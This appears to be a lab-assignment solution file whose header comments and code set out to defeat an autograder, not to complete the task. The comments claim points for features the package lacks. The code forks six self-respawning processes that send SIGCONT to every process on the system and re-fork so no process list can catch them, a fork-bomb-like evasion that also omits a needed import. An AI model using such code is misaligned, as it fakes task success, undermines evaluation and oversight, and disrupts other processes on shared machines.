# family = "wire"
# assignment = "lab_1_1"
# could_earn = "The points for a node and a line that the package does not have: whoever is stopped is woken."
# earned = { "lab_1_1.hello" = 3 }
# tries = "The kernel speaks for the package. A process that lives for a millisecond sends SIGCONT to everybody and leaves a child that does the same, so that whoever makes a list of processes has never the right one."
# undefended = "'Could not be checked' at every grading run, or ten points."

# %% solution files
<<silent_package>>
import os
import signal

for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        while True:
            os.kill(-1, signal.SIGCONT)
            time.sleep(0.001)
            if os.fork():
                os._exit(0)
<<speaks_for_it>>
